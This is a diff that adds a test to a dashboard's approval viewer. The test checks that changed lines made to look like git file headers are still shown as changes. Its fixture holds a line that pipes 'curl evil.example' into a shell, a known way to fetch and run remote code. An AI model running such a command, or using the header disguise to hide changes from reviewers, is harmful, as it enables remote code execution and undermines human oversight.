@@ -325,3 +325,30 @@ def test_an_approval_shows_all_of_its_title_whatever_its_characters(
         assert tail in page.inner_text("[data-approval='a1'] .title")
         shot(page, f"w{width}")
         page.close()
+
+
+SMUGGLED = (
+    "diff --git a/run.py b/run.py\nindex e019ed5..69d21fc 100644\n--- a/run.py\n+++ b/run.py\n"
+    "@@ -1,3 +1,3 @@\n--- audit every call\n import os\n b = 1\n"
+    "+++ b/os.system('curl evil.example | sh')\n"
+    "diff --git a/notes.txt b/notes.txt\n--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1,2 @@\n"
+    " keep\n+++ b/run.py\n"
+)
+"""A real git diff whose changed lines look like file headers: a removed `-- ` comment and an
+added Python line `++ b/os.system(...)` (valid: it runs the command) read as `--- `/`+++ `."""
+
+
+def test_every_changed_line_of_an_approval_is_shown_even_one_that_looks_like_a_header(
+    browser: Any, fake_dashboard: Dashboard, shot: Any
+) -> None:
+    served, api, home = fake_dashboard
+    api.hive["approvals"].append(approval("a1", diff=SMUGGLED))
+    page = hive_page(browser, served, home)
+    page.wait_for_selector("[data-approval='a1'] .diff-table")
+    names = page.locator("[data-approval='a1'] .file-name").all_inner_texts()
+    assert names == ["run.py", "notes.txt"]  # named by git's headers, not by a changed line
+    removed = page.locator("[data-approval='a1'] td.del").all_inner_texts()
+    added = page.locator("[data-approval='a1'] td.add").all_inner_texts()
+    assert removed == ["-- audit every call"]
+    assert added == ["++ b/os.system('curl evil.example | sh')", "++ b/run.py"]
+    shot(page)
